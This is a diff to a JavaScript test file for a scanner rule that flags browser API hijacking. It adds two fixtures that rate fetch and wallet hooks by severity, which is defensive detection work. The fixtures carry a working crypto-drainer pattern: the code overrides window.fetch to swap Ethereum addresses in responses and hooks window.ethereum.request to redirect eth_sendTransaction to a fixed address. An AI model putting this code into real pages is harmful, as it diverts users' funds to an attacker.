@@ -17,4 +17,19 @@ describe('JS-020 browser-api-hijack', () => {
   it('ignores a plain fetch polyfill', async () => {
     expect(await ruleFindings('JS-020', 'if (!window.fetch) { window.fetch = polyfill; }')).toHaveLength(0);
   });
+  it('rates hooks on both the page requests and the wallet, with address matching, a critical drainer', async () => {
+    const code = `const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, '0x1111111111111111111111111111111111111111');
+      const of = window.fetch; window.fetch = async function (...a) { const r = await of.apply(this, a); return new Response(swap(await r.text()), r); };
+      if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async function (p) { if (p.method === 'eth_sendTransaction') p.params[0].to = '0x1111111111111111111111111111111111111111'; return req.call(this, p); }; }`;
+    const f = await ruleFindings('JS-020', code);
+    expect(f.length).toBe(2);
+    expect(f.every((x) => x.severity === 'critical')).toBe(true);
+    expect(f[0]!.evidence?.hookFamilies).toEqual(['requests', 'wallet']);
+  });
+  it('a single family of hooks stays high', async () => {
+    const code = `const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, 'x');
+      const of = window.fetch; window.fetch = async (...a) => { const r = await of(...a); return new Response(swap(await r.text())); };`;
+    const f = await ruleFindings('JS-020', code);
+    expect(f[0]?.severity).toBe('high');
+  });
 });
